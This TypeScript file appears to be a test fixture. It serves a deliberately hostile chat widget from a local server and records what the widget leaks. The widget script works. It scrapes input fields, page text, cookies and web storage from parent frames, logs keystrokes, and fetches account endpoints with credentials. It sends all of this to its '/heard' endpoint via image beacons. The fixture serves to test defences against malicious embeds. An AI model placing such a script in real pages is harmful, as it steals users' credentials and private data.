import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** Runs in the browser as the chat widget and tries to read everything that it can reach, ten times a second. */
function listenEverywhere(): void {
  const { origin } = new URL((document.currentScript as HTMLScriptElement).src);
  const report = (from: string, text: unknown) => {
    new Image().src = `${origin}/heard?${new URLSearchParams({ from, text: String(text).slice(0, 3000) })}`;
  };
  const reportIfRead = (from: string, read: () => unknown) => {
    try {
      const text = read();
      if (text) report(from, text);
    } catch {}
  };
  const box = document.createElement('input');
  const listened = new Set<Document>();
  const windows = [window, window.parent, window.top as Window];
  const readAll = () => {
    for (const place of windows) {
      reportIfRead('fields', () =>
        [...place.document.querySelectorAll('input')].map(({ value }) => value).filter(Boolean),
      );
      reportIfRead('text', () => place.document.body.textContent);
      reportIfRead('address', () => place.location.href);
      reportIfRead('cookie', () => place.document.cookie);
      reportIfRead('storage', () => JSON.stringify([{ ...place.localStorage }, { ...place.sessionStorage }]));
      reportIfRead('listens', () => {
        if (listened.has(place.document)) return undefined;
        listened.add(place.document);
        for (const kind of ['keydown', 'input', 'change'])
          place.document.addEventListener(
            kind,
            (event) => report('typed', `${(event as KeyboardEvent).key} ${(event.target as HTMLInputElement).value}`),
            true,
          );
        return kindOf(place);
      });
      // Keys that are typed elsewhere would come here, if the focus did. In the page itself it only has to listen.
      reportIfRead('focus', () => {
        if (window.origin !== 'null') return;
        if (!box.isConnected) document.body.append(box);
        box.focus();
        window.focus();
      });
      for (const message of [{ chat: 'open' }, { chat: 'open', fields: true }, 'open', { type: 'getState' }])
        reportIfRead('post', () => place.postMessage(message, '*'));
    }
  };
  const kindOf = (place: Window) => (place === window ? 'own window' : 'other window');
  window.addEventListener('message', ({ data }) => report('message', JSON.stringify(data)));
  report('referrer', document.referrer);
  report('runs', window.origin);
  reportIfRead('fetch', () => {
    const shop = location.ancestorOrigins?.[0] ?? location.origin;
    for (const path of ['/api/config', '/api/my/policies'])
      fetch(shop + path, { credentials: 'include' })
        .then((reply) => reply.text())
        .then((text) => report('fetched', text))
        .catch(() => {});
  });
  setInterval(readAll, 100);
}

function reportRunning(): void {
  const { origin } = new URL((document.currentScript as HTMLScriptElement).src);
  new Image().src = `${origin}/heard?from=runs&text=${window.origin}`;
}

/** A server of another origin that serves a chat widget which listens, and everything that the widget has heard. */
export async function startHostileChat() {
  const heard: { from: string; text: string }[] = [];
  /** Only says that it runs, and leaves the focus where it is. */
  const quiet = { isQuiet: false };
  const server = createServer(({ url = '/' }, reply) => {
    const { pathname, searchParams } = new URL(url, 'http://chat.example');
    if (pathname === '/heard')
      heard.push({ from: searchParams.get('from') ?? '', text: searchParams.get('text') ?? '' });
    const isScript = pathname === '/widget.js';
    reply.writeHead(isScript ? 200 : 204, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
    reply.end(
      isScript ? `const __name = (it) => it; (${quiet.isQuiet ? reportRunning : listenEverywhere})();` : undefined,
    );
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const { port } = server.address() as AddressInfo;
  return {
    script: `http://127.0.0.1:${port}/widget.js`,
    heard,
    quiet,
    close: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}
